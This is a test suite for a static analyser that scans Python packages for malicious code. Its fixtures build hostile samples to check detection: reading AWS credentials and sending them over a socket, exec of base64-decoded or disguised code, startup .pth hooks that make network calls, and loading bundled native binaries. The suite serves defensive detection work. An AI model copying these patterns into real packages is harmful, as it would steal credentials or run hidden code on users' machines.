"""Code inspection's analysis: what runs when, data flow through the module's own functions,
obscured names, and hostile input (parse errors, deep nesting, threads) as findings, not
crashes."""

from __future__ import annotations

import io
import tarfile
import threading
from pathlib import Path

import pytest

from sscli.ingest.code import inspect_code
from sscli.ingest.code.model import Finding, Phase
from sscli.ingest.code.parse import Unparsable, parse_source
from sscli.ingest.code.registry import rules
from sscli.ingest.inspect import inspect_archive
from sscli.policy.model import ArchiveLimits
from tests.builders import build_sdist, build_wheel


def _wheel(tmp_path: Path, files: dict[str, str]) -> list[Finding]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    path = build_wheel(
        tmp_path, "demo", "1.0", extra_members=[(k, v.encode()) for k, v in files.items()]
    )
    return inspect_code(path, project="demo").findings


def _sdist(tmp_path: Path, files: dict[str, str]) -> list[Finding]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    extra = [(f"demo-1.0/{k}", v.encode()) for k, v in files.items()]
    path = build_sdist(tmp_path, "demo", "1.0", extra=extra)
    return inspect_code(path, project="demo").findings


def _rules(findings: list[Finding], severity: str = "high") -> set[tuple[str, str, int]]:
    return {(f.rule, f.file, f.line) for f in findings if f.severity == severity}


def test_the_same_call_weighs_by_when_it_runs(tmp_path: Path) -> None:
    source = "import subprocess\n\ndef build():\n    subprocess.run(['cc', '-c', 'x.c'])\n"
    at_runtime = _wheel(tmp_path / "a", {"demo/tool.py": source})
    assert not [f for f in at_runtime if f.rule == "process-spawn"]
    at_import = _wheel(tmp_path / "b", {"demo/tool.py": source + "\nbuild()\n"})
    (spawn,) = [f for f in at_import if f.rule == "process-spawn"]
    assert (spawn.phase, spawn.severity, spawn.line) == (Phase.IMPORT, "medium", 4)
    in_tests = _sdist(tmp_path / "c", {"tests/test_x.py": source + "\nbuild()\n"})
    assert not [f for f in in_tests if f.rule == "process-spawn"]


def test_taint_flows_through_parameters_and_returns(tmp_path: Path) -> None:
    source = (
        "import os, socket\n\n"
        "def key():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n\n"
        "def send(payload, host):\n    socket.create_connection((host, 443)).sendall(payload)\n\n"
        "def main():\n    send(key().encode(), 'example.org')\n"
    )
    found = _wheel(tmp_path, {"demo/cli.py": source})  # runtime only: never called here
    assert ("exfil-credentials", "demo/cli.py", 7) in _rules(found)


def test_a_parameter_decoded_by_a_helper_is_decoded_when_the_caller_passes_a_literal(
    tmp_path: Path,
) -> None:
    source = "import base64\n\ndef run(blob):\n    exec(base64.b64decode(blob))\n\ndef handle(data):\n    run(data)\n"
    assert not _rules(_wheel(tmp_path / "a", {"demo/x.py": source}))
    found = _wheel(tmp_path / "b", {"demo/x.py": source + "\nrun('cHJpbnQoMSk=')\n"})
    assert ("exec-decoded", "demo/x.py", 4) in _rules(found)


@pytest.mark.parametrize(
    "line",
    [
        "getattr(__import__('builtins'), 'ex' + 'ec')('x = 1')",
        "__builtins__['ev' + 'al']('1')",
        "getattr(__import__('builtins'), ''.join(map(chr, [101, 120, 101, 99])))('x = 1')",
        "globals()['__builtins__'].__dict__['exec']('x = 1')",
    ],
)
def test_names_built_to_hide_exec_are_seen(tmp_path: Path, line: str) -> None:
    found = _wheel(tmp_path, {"demo/x.py": line + "\n"})
    assert ("exec-obscured", "demo/x.py", 1) in _rules(found), found


def test_identifiers_are_matched_after_nfkc_folding(tmp_path: Path) -> None:
    found = _wheel(
        tmp_path,
        {"demo/x.py": "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('eA=='))\n"},
    )
    assert {("obscured-identifier", "demo/x.py", 2), ("exec-decoded", "demo/x.py", 2)} <= _rules(
        found
    )


def test_an_ordinary_getattr_of_exec_is_not_obscured(tmp_path: Path) -> None:
    # six does exactly this
    found = _wheel(tmp_path, {"demo/x.py": "import builtins\nexec_ = getattr(builtins, 'exec')\n"})
    assert not _rules(found) and not _rules(found, "medium")


def test_docstring_urls_and_name_templates_are_not_findings(tmp_path: Path) -> None:
    source = (
        '"""Post to https://discord.com/api/webhooks/ID/TOKEN or https://api.telegram.org/botTOKEN."""\n'
        "import importlib\n\nWEBHOOK = 'https://discord.com/api/webhooks/{id}/{token}'\n\n"
        "def plugin(name):\n    return importlib.import_module(name)\n"
    )
    assert not _rules(_wheel(tmp_path, {"demo/x.py": source}))


def test_pth_lines_run_at_start_up_and_so_does_the_module_they_import(tmp_path: Path) -> None:
    files = {
        "demo.pth": "import _demo_start; _demo_start.go()\n",
        "_demo_start.py": "import urllib.request\n\ndef go():\n    urllib.request.urlopen('https://example.org/')\n",
    }
    found = _wheel(tmp_path, files)
    (network,) = [f for f in found if f.rule == "network-call"]
    assert (network.phase, network.severity, network.file, network.line) == (
        Phase.STARTUP,
        "high",
        "_demo_start.py",
        4,
    )
    assert [f.rule for f in found if f.file == "demo.pth"] == ["pth-exec"]


def test_setup_py_imports_make_sdist_modules_install_time(tmp_path: Path) -> None:
    files = {
        "setup.py": "import helper\nfrom setuptools import setup\nsetup()\n",
        "helper.py": "import subprocess\nsubprocess.run(['gcc', '--version'])\n",
    }
    (spawn,) = [f for f in _sdist(tmp_path, files) if f.rule == "process-spawn"]
    assert (spawn.file, spawn.phase) == ("helper.py", Phase.INSTALL)


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("def f(:\n", "not valid Python"),
        ("x = " + "(" * 5000 + ")" * 5000 + "\n", ""),
        ("x = " + " + ".join(["1"] * 60000) + "\n", ""),
        ("\x00\x01binary", "not"),
    ],
)
def test_hostile_sources_are_findings_not_crashes(tmp_path: Path, source: str, why: str) -> None:
    found = _sdist(tmp_path, {"setup.py": source})
    problems = [f for f in found if f.rule in ("unparsable", "unanalysed")]
    assert problems and why in problems[0].message, found


def test_parsing_in_threads_at_once_is_serialised() -> None:
    deep = "x = " + "[" * 90 + "]" * 90 + "\n" + "def f():\n    return 1\n" * 200
    errors: list[BaseException] = []

    def parse() -> None:
        for _ in range(20):
            try:
                parse_source(deep, "x.py")
            except (Unparsable, SystemError, RecursionError) as exc:
                errors.append(exc)

    threads = [threading.Thread(target=parse) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []


def test_identical_duplicate_tar_members_pass_and_conflicting_ones_do_not(tmp_path: Path) -> None:
    def sdist(name: str, second: bytes) -> Path:
        path = tmp_path / f"{name}-1.0.tar.gz"
        with tarfile.open(path, "w:gz") as archive:
            for member, data in [
                (
                    f"{name}-1.0/PKG-INFO",
                    f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n\n".encode(),
                ),
                (f"{name}-1.0/a.py", b"x = 1\n"),
                (f"{name}-1.0/a.py", second),
            ]:
                info = tarfile.TarInfo(member)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        return path

    ok, _ = inspect_archive(sdist("same", b"x = 1\n"), ArchiveLimits())
    assert (ok[0].rule, ok[0].status.value) == ("archive", "pass")
    refused, _ = inspect_archive(sdist("other", b"x = 2\n"), ArchiveLimits())
    assert refused[0].status.value == "fail" and "other content" in refused[0].message


def test_a_binary_in_a_pure_wheel_loaded_with_ctypes_is_refused_and_alone_is_a_warning(
    tmp_path: Path,
) -> None:
    elf = "\x7fELF\x02\x01\x01"
    quiet = _wheel(tmp_path / "a", {"demo/lib/x.so": elf})
    assert [(f.rule, f.severity) for f in quiet if f.file == "demo/lib/x.so"] == [
        ("binary-in-pure-wheel", "medium")
    ]
    loader = (
        "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib', 'x.so'))\n"
    )
    found = _wheel(tmp_path / "b", {"demo/lib/x.so": elf, "demo/native.py": loader})
    assert ("native-load-bundled", "demo/native.py", 2) in _rules(found)


def test_every_rule_has_a_family_a_title_and_a_severity() -> None:
    table = rules()
    assert len(table) >= 35
    for rule in table.values():
        assert rule.title and rule.family
        assert any(rule.severity(p) for p in Phase)


def test_what_eval_runs_is_its_code_not_the_namespace_beside_it(tmp_path: Path) -> None:
    parsed = (
        "import base64\n\n"
        "def value(expr, text):\n"
        "    names = {'k': base64.b64decode(text)}\n"
        "    return eval(expr.strip(), {}, names)\n\n"
        "def main():\n"
        "    return value(input(), 'aGk=')\n"
    )
    assert not [f for f in _wheel(tmp_path / "a", {"demo/calc.py": parsed}) if f.severity == "high"]
    literal = "import base64\nexec('import os; os.system(c)', {'c': base64.b64decode('aWQ=')})\n"
    found = _wheel(tmp_path / "b", {"demo/boot.py": literal})
    assert ("exec-decoded", "demo/boot.py", 2) in _rules(found)


def test_a_container_of_parsed_values_is_not_a_literal_once_it_holds_one(tmp_path: Path) -> None:
    source = (
        "def params(lines):\n"
        "    out = dict(lines)\n"
        "    for name in lines:\n"
        "        out[name] = 8\n"
        "        out[name] = chr(out[name])\n"
        "    return eval(out['x'])\n"
    )
    assert not [f for f in _wheel(tmp_path / "a", {"demo/p.py": source}) if f.severity == "high"]
    built = "codes = [105, 100]\ncodes[0] = 105\nexec(''.join(chr(c) for c in codes))\n"
    found = _wheel(tmp_path / "b", {"demo/boot.py": built})
    assert ("exec-decoded", "demo/boot.py", 3) in _rules(found)


def test_a_directory_of_tests_by_its_words_is_runtime_unless_installed_code_imports_it(
    tmp_path: Path,
) -> None:
    source = "import urllib.request\nurllib.request.urlopen('https://example.org/x')\n"
    manual = _sdist(tmp_path / "a", {"vendor/manual tests/fetch.py": source})
    assert not [f for f in manual if f.rule == "network-call"]
    imported = _wheel(
        tmp_path / "b",
        {"demo/unit_tests/fetch.py": source, "demo/boot.py": "from demo.unit_tests import fetch\n"},
    )
    (call,) = [f for f in imported if f.rule == "network-call"]
    assert (call.file, call.phase) == ("demo/unit_tests/fetch.py", Phase.IMPORT)


def test_the_walkers_fast_path_skips_no_name_its_sources_and_sinks_test_for() -> None:
    """`_call` returns early for a callee that no branch names: every name a branch compares
    `callee`, `name` (builtins) or `last` with must be in the sets the early return consults."""
    import ast as ast_
    import inspect as inspect_

    from sscli.ingest.code import flow
    from sscli.ingest.code import vocabulary as vocab

    body = ast_.parse(inspect_.getsource(flow.ModuleWalker._call).lstrip())
    (guard,) = [
        n
        for n in ast_.walk(body)
        if isinstance(n, ast_.If) and "_SINK_NAMES" in ast_.unparse(n.test)
    ]
    compared: dict[str, set[str]] = {"callee": set(), "last": set(), "name": set()}
    for node in ast_.walk(body):
        if (  # callee.endswith("().open"): its last part
            isinstance(node, ast_.Call)
            and isinstance(node.func, ast_.Attribute)
            and node.func.attr == "endswith"
            and ast_.unparse(node.func.value) == "callee"
            and node.lineno > guard.end_lineno  # type: ignore[operator]
        ):
            suffix = ast_.literal_eval(node.args[0])
            for text in suffix if isinstance(suffix, tuple) else (suffix,):
                compared["last"].add(text.rsplit(".", 1)[-1])
        if not (isinstance(node, ast_.Compare) and isinstance(node.left, ast_.Name)):
            continue
        if node.lineno <= guard.end_lineno or node.left.id not in compared:  # type: ignore[operator]
            continue
        if not isinstance(node.ops[0], ast_.In | ast_.Eq):
            continue
        right = node.comparators[0]
        if isinstance(right, ast_.Attribute):  # a vocabulary set, nothing else
            assert isinstance(right.value, ast_.Name) and right.value.id == "v", ast_.unparse(node)
            compared[node.left.id] |= set(getattr(vocab, right.attr))
        elif isinstance(right, ast_.Constant):
            compared[node.left.id].add(right.value)
        elif isinstance(right, ast_.Tuple | ast_.Set):
            compared[node.left.id] |= {e.value for e in right.elts if isinstance(e, ast_.Constant)}
    assert compared["callee"] and compared["last"]
    assert compared["callee"] <= flow._SINK_NAMES
    assert {f"builtins.{n}" for n in compared["name"]} <= flow._SINK_NAMES
    assert compared["last"] <= flow._SINK_LASTS


def test_a_sink_reached_through_many_calls_is_recorded_once_per_scope(tmp_path: Path) -> None:
    """Each function calling the one before three times handed its callers 3**depth copies of
    the same sink (a 1 KB file with 20 of them never finished)."""
    import ast as ast_

    from sscli.ingest.code.flow import ModuleWalker

    source = "import os\n\ndef f0(x):\n    os.system(x)\n"
    for i in range(1, 12):
        source += f"\ndef f{i}(x):\n    f{i - 1}(x)\n    f{i - 1}(x)\n    f{i - 1}(x)\n"
    flow = ModuleWalker(ast_.parse(source), "demo.deep", "demo").run()
    assert max(len(scope.events) for scope in flow.scopes.values()) == 1
    found = _wheel(tmp_path, {"demo/deep.py": source + "\nf11(input())\n"})
    assert ("process-spawn", "demo/deep.py", 4) in _rules(found, "medium")


def test_a_module_over_the_event_bound_is_unanalysed_not_silent(tmp_path: Path) -> None:
    from sscli.ingest.code import flow

    calls = "".join(f"os.system('echo {i}')\n" for i in range(flow.MAX_EVENTS + 1))
    found = _wheel(tmp_path, {"demo/huge.py": "import os\n" + calls})
    assert [(f.rule, f.severity) for f in found if f.file == "demo/huge.py"] == [
        ("unanalysed", rules()["unanalysed"].severity(Phase.IMPORT))
    ]


def test_a_module_over_the_time_bound_is_unanalysed_not_silent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sscli.ingest.code import flow

    monkeypatch.setattr(flow, "MAX_SECONDS", -1.0)  # every walk is over it
    body = "".join(f"x{i} = {i}\n" for i in range(2048))
    found = _wheel(tmp_path, {"demo/slow.py": "import os\n" + body + "os.system('id')\n"})
    assert [(f.rule, f.message) for f in found if f.file == "demo/slow.py"] == [
        ("unanalysed", "over -1 CPU seconds to analyse")
    ]
